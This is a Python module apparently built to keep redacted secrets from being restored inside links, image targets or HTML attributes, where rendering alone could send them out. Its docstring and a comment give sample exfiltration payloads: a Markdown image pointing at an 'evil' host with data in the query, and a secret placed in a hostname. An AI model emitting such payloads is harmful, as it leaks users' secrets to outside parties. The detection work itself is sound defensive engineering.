"""Where text is more than text: links, link and image targets, HTML attributes.

What is put there can be sent somewhere by merely being shown (`![](https://evil/?q=…)`), so nothing is
restored in such a place, unless a person's own text had the same thing in the same place. `Sinks` reads a
text from left to right and says of every surrogate in it where it stands. It reads what the model sees,
tags and all; the one who replaces and the one who restores thus see the same places, whatever stands in
them.
"""

from __future__ import annotations

import hashlib
import re
from dataclasses import dataclass

# What may follow a restored address without becoming part of it: `https://⟨secret⟩.evil.com` must not.
ENDS = frozenset(" \t\r\n\v\f/?#\"'<>)]`")
LINE = 2000  # characters that are remembered of a line, and of how an address begins

# A host is read from its first label on, or two of one suffix would be the same place.
_HOST = r"(?<![\w.\-])(?:[\w.\-]*\.[^\W\d_]{2,24}\.?|\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?[/?]"
_OPENINGS = re.compile(
    r"(?P<url>[a-z][a-z0-9+.\-]{0,31}:[/\\]{2}|www\.|(?:javascript|vbscript|data):"
    rf"|(?<![\w:/])//(?=[\w\[])|{_HOST})"
    r"|(?P<target>\]\(|\]:|\burl\()|(?P<auto><[a-z][a-z0-9+.\-]{0,31}:)"
    r"|(?P<tag><[a-z][^\s/<>]*(?=[\s/>]|\Z))",
    re.IGNORECASE,
)
# Where the readers of Markdown and HTML see an end, and nowhere else: a no-break space ends nothing, a
# quotation mark ends no bare link, a bracket after a backslash no target.
_BLANK = r"[ \t\r\n\v\f]"
_URL_END = re.compile(rf"{_BLANK}|<")
_AUTO_END = re.compile(rf"{_BLANK}|>")
_BEGUN = re.compile(r"[^\s]")
_TARGET_END = re.compile(rf"{_BLANK}|(?<!\\)[()]")
_ANGLE_END = re.compile(r"(?<!\\)>|\n")
_IN_TAG = re.compile(r"(?P<value>=[ \t\r\n\f]*(?P<quote>[\"']?))|(?P<end>>)")
_UNQUOTED_END = re.compile(r"[ \t\r\n\f>]")
_CSS_END = re.compile(r"</style", re.IGNORECASE)
_REFERENCE = re.compile(r"(?:[\s>]|[-*+][ \t]|\d{1,9}[.)][ \t]){0,8}\[[^\]]*\Z")
_HOST_IS_OVER = re.compile(
    r"(?!javascript:|vbscript:|data:)(?:[a-z][a-z0-9+.\-]*+:)?+(?:[/\\]{2})?+[^/?#\\]*[/?#\\]", re.I
)
_NAME = re.compile(r"[^\s\"'=<>/]+\s*\Z")
_FETCHED = re.compile(
    r"(?:.*:)?(?:src|href|action|formaction|srcset|poster|data|background|cite|ping|style|content|on\w+)",
    re.IGNORECASE,
)
ATOM = "\ufffc"


@dataclass(frozen=True, slots=True)
class Place:
    """Where a surrogate stands: in a "link", "target" or "attribute", or "" in plain text.

    name: the same for the same text before it in the same sink, "" in plain text. open: the address has not
    said its host yet, and what follows the surrogate could.
    """

    sink: str
    name: str = ""
    open: bool = False


PLAIN = Place("")


class Sinks:
    """Reads text (`read`) and surrogates (`look`, then `enter`) in order."""

    def __init__(self) -> None:
        self._unread: list[str] = []
        self._state = "text"  # link, auto, target, angle, tag, value, css
        self._quote = ""
        self._tag_name = ""
        self._depth = 0
        self._line = ""
        self._before = ""  # how the link, target or value begins, surrogates as ATOM
        self._fetched = True  # the value is an address, as far as can be told
        self._hash = hashlib.sha256()

    def copy(self) -> Sinks:
        """One that goes on from here by itself."""
        other = Sinks()
        other.__dict__.update(self.__dict__, _unread=list(self._unread), _hash=self._hash.copy())
        return other

    def read(self, text: str) -> None:
        """Text between surrogates; it may come in any pieces."""
        self._unread.append(text)

    def look(self) -> Place:
        """Where a surrogate would stand that came now."""
        self._go("".join(self._unread))
        self._unread = []
        if self._state == "target-begins":
            self._state = "target"
        if self._state in ("text", "tag"):
            return PLAIN
        sinks = {"link": "link", "auto": "link", "value": "attribute", "css": "attribute"}
        sink = sinks.get(self._state, "target")
        is_open = self._fetched and not _HOST_IS_OVER.match(self._before)
        return Place(sink, f"{sink}:{self._hash.hexdigest()}", is_open)

    def enter(self, surrogate: str) -> None:
        """A surrogate; `look` was called before."""
        if self._state != "text":
            self._enter(ATOM, surrogate)
        self._line = (self._line + ATOM)[-LINE:]

    def _go(self, text: str) -> None:
        at = 0
        while at < len(text):
            at = self._step(text, at)
        start = text.rfind("\n") + 1
        self._line = ((self._line if not start else "") + text[start:])[-LINE:]

    def _step(self, text: str, at: int) -> int:
        """Read on from `at` to where the state changes, or to the end."""
        match self._state:
            case "text":
                return self._plain(text, at)
            case "link":
                return self._until(_URL_END, text, at, "text")
            case "auto":
                reached = self._until(_AUTO_END, text, at, "tag")
                self._state = "text" if text.startswith(">", reached) else self._state
                return reached
            case "css":
                return self._until(_CSS_END, text, at, "text")
            case "target-begins":
                return self._target_begins(text, at)
            case "target":
                return self._target(text, at)
            case "angle":
                return self._until(_ANGLE_END, text, at, "text")
            case "tag":
                return self._in_tag(text, at)
            case _:
                end = re.compile(re.escape(self._quote)) if self._quote else _UNQUOTED_END
                return self._until(end, text, at, "tag", keep=bool(self._quote))

    def _plain(self, text: str, at: int) -> int:
        found = _OPENINGS.search(text, at)
        if found is None:
            return len(text)
        self._before, self._hash, self._fetched = "", hashlib.sha256(), True
        if found["url"]:
            self._state = "link"
            self._enter(found[0])
        elif found["auto"] or found["tag"]:
            self._state, self._tag_name = "auto" if found["auto"] else "tag", found[0].lower()
            self._enter(found[0][1:])  # an address begins like a bare one, wherever it leads
        elif found[0] != "]:" or self._defines(text, found.start()):
            self._state, self._depth = "target-begins", int(found[0] != "]:")
        return found.end()

    def _defines(self, text: str, at: int) -> bool:
        """Whether the `]:` at `at` ends the label of a reference's definition: it stands first in its
        line."""
        start = text.rfind("\n", 0, at) + 1
        line = text[start:at] if start else self._line + text[:at]
        return len(line) <= LINE and _REFERENCE.match(line) is not None

    def _target_begins(self, text: str, at: int) -> int:
        begun = _BEGUN.search(text, at)
        if begun is None:
            return len(text)
        angle = begun[0] == "<"
        self._state = "angle" if angle else "target"
        return begun.end() if angle else begun.start()

    def _target(self, text: str, at: int) -> int:
        """To a blank, or to the bracket that closes (`depth` 0: a definition has none)."""
        found = _TARGET_END.search(text, at)
        if found is None:
            self._enter(text[at:])
            return len(text)
        self._enter(text[at : found.end()])
        if found[0] == "(" and self._depth:
            self._depth += 1
        elif found[0] == ")" and self._depth > 1:
            self._depth -= 1
        elif found[0] not in "()" or self._depth:
            self._state = "text"
            return found.start() if found[0] not in "()" else found.end()
        return found.end()

    def _in_tag(self, text: str, at: int) -> int:
        found = _IN_TAG.search(text, at)
        if found is None:
            self._enter(text[at:])
            return len(text)
        self._enter(text[at : found.end()])
        if found["end"] and self._tag_name == "<style":
            self._state, self._before, self._fetched = "css", "", False
        elif found["end"]:
            self._state = "text"
        else:
            name = _NAME.search(text[at : found.start()])
            self._fetched = name is None or _FETCHED.fullmatch(name[0].strip()) is not None
            self._state, self._quote, self._before = "value", found["quote"], ""
        return found.end()

    def _until(self, end: re.Pattern[str], text: str, at: int, then: str, keep: bool = False) -> int:
        found = end.search(text, at)
        if found is None:
            self._enter(text[at:])
            return len(text)
        self._enter(text[at : found.end() if keep else found.start()])
        self._state = then
        return found.end() if keep else found.start()

    def _enter(self, text: str, identity: str = "") -> None:
        """Text of the sink we are in; all of it counts for its name, its beginning for whose host it says."""
        self._before += text[: max(0, LINE - len(self._before))]
        self._hash.update((identity or text).encode("utf-8", "surrogatepass"))
